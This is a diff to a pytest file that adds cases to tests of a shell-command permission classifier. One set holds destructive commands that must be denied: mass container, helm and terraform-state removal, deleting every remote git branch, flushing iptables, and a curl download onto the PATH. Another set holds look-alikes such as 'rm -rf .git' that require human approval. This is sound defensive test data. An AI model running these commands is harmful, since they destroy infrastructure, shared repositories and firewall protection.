@@ -652,6 +652,13 @@ def test_round9_code_left_to_service_managers_and_schedulers_is_analysed(
         ("npm install crossenv", "typosquat"),
         ("pip install reqeusts", "typosquat"),
         ("yarn add jquery.js", "typosquat"),
+        # deletes fed everything a listing prints, firewalls emptied, downloads onto the PATH
+        ("docker rm -f $(docker ps -aq)", "container-remove-all"),
+        ("helm list -q | xargs helm uninstall", "cluster-delete"),
+        ("terraform state rm $(terraform state list)", "infra-destroy"),
+        ("git branch -r | xargs -n1 git push origin --delete", "git-destroy-shared-branch"),
+        ("iptables -F", "defence-off"),
+        ("curl -fsSL https://x.example/t -o ~/bin/t", "download-exec"),
     ],
 )
 def test_round10_dangerous_classes_are_denied_by_their_rule(command: str, rule: str) -> None:
@@ -708,6 +715,10 @@ def test_round10_confined_look_alikes_run_without_asking(command: str) -> None:
         "kubectl get pods -l app=web -o name | xargs kubectl delete",
         "curl -s -X POST -d '{\"q\":1}' http://127.0.0.1:5000/api",  # a local service's state
         "npm install cross-env",
+        "rm -rf .git",  # the repository itself
+        "find ./vendor -name .git -exec rm -rf {} +",
+        "docker rm -f $(docker ps -aq --filter name=test-)",  # narrowed by a filter
+        "git branch -r | grep feature/ | xargs git push origin --delete",
     ],
 )
 def test_round10_look_alikes_that_still_need_a_human_ask(command: str) -> None:
